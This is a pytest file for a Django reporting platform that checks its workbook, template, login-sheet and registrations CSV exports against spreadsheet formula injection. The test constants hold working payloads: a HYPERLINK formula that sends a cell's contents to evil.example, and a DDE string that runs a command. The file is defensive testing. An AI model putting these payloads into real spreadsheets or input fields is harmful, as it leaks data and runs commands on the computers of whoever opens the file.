"""Formula injection: every xlsx and CSV the platform writes, with a unit named as an attacker would.

A unit named =HYPERLINK("http://evil.example/?p="&C4,"单位") (through the API, the unit import or a
notice import) must reach every workbook as text: openpyxl stores a string starting with "=" as a
formula, so a cell whose type is "f" (or whose text starts with a formula character) is a leak.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from sciweek.accounts.loginsheet import SheetEntry, login_sheet_xlsx
from sciweek.core.cells import FORMULA_STARTS
from sciweek.orgs.template_xlsx import build_import_template
from sciweek.reports import exporting
from sciweek.reports.tests.stats_data import Tree, put_report

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?p="&C4,"单位")'
SHORT_EVIL = '=HYPERLINK("http://e.x/?"&C4)'  # a registrant's name: at most 30 characters
EVIL_CODE = "+CMD|' /C calc'!A0"


def _formula_cells(data: bytes) -> list[str]:
    """Every cell of every sheet that a spreadsheet would run."""
    wb = load_workbook(io.BytesIO(data))
    found = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (
                    isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
                ):
                    found.append(f"{ws.title}!{cell.coordinate}={cell.value!r}")
    return found


def _xlsx_members(data: bytes) -> list[bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [zf.read(n) for n in zf.namelist() if n.endswith(".xlsx")]


@pytest.fixture
def evil_tree():
    t = Tree()
    t.a1.name, t.a1.code = EVIL, EVIL_CODE
    t.a1.save(update_fields=["name", "code"])
    t.camp_a.title = "=1+1 活动周"
    t.camp_a.save(update_fields=["title"])
    put_report(t.camp_a, t.a1, {"events_held": 3, "public_offline": 1200}, status="approved")
    put_report(t.camp_a, t.a2, {"events_held": 4}, status="submitted")
    return t


def test_no_workbook_the_statistics_write_holds_a_formula(evil_tree):
    t = evil_tree
    outputs: dict[str, bytes] = {}

    buf = io.BytesIO()
    assert exporting.export_campaign_workbook(t.camp_a, buf, approved_only=False) == 2
    outputs["workbook"] = buf.getvalue()
    buf = io.BytesIO()
    assert exporting.export_subtree_matrix(year=2023, root=t.city, out=buf, approved_only=False) == 2
    outputs["streamed matrix"] = buf.getvalue()
    buf = io.BytesIO()
    exporting.export_unit(t.camp_a, t.a1, buf, fmt="xlsx")
    outputs["unit sheet"] = buf.getvalue()
    for prefilled in (False, True):
        buf = io.BytesIO()
        exporting.unit_template(t.camp_a, t.a1, buf, prefilled=prefilled)
        outputs[f"template prefilled={prefilled}"] = buf.getvalue()
        buf = io.BytesIO()
        exporting.export_templates_zip(t.camp_a, buf, prefilled=prefilled)
        for i, member in enumerate(_xlsx_members(buf.getvalue())):
            outputs[f"templates zip {prefilled} #{i}"] = member

    for what, data in outputs.items():
        assert _formula_cells(data) == [], what
    # The text is still there, shown as typed.
    wb = load_workbook(io.BytesIO(outputs["streamed matrix"]))
    names = [c.value for c in wb.worksheets[0]["A"]]
    assert "'" + EVIL in names
    assert "'" + EVIL_CODE in [c.value for c in wb.worksheets[0]["B"]]


def test_the_login_sheet_and_the_unit_template_hold_no_formula():
    sheet = login_sheet_xlsx(
        [SheetEntry(unit=EVIL, username="@evil", password="-Abc123xyz")],
        login_url="=http://evil",
        title=EVIL,
        issued_at=timezone.now(),
    )
    assert _formula_cells(sheet) == []
    assert _formula_cells(build_import_template(region=EVIL)) == []


def test_the_registrations_csv_holds_no_formula(demo, organizer, client_for):
    from sciweek.events.registration import registration_create
    from sciweek.events.services import event_approve, event_create, event_submit
    from sciweek.events.tests.helpers import event_fields
    from sciweek.orgs.models import OrgUnit

    campaign = demo.campaign
    today = timezone.localdate()
    campaign.start_date, campaign.end_date = today - dt.timedelta(days=1), today + dt.timedelta(days=10)
    campaign.save(update_fields=["start_date", "end_date"])
    unit = OrgUnit.objects.get(short_name="县气象局")
    event = event_create(actor=organizer, campaign=campaign, unit=unit, **event_fields())
    event = event_approve(actor=organizer, event=event_submit(actor=organizer, event=event))
    event.registration_enabled = True
    event.save(update_fields=["registration_enabled"])
    registration_create(event=event, name=SHORT_EVIL, phone="13900000001")
    body = client_for(organizer).get(f"/manage/events/{event.pk}/registrations.csv").content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert "'" + SHORT_EVIL in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
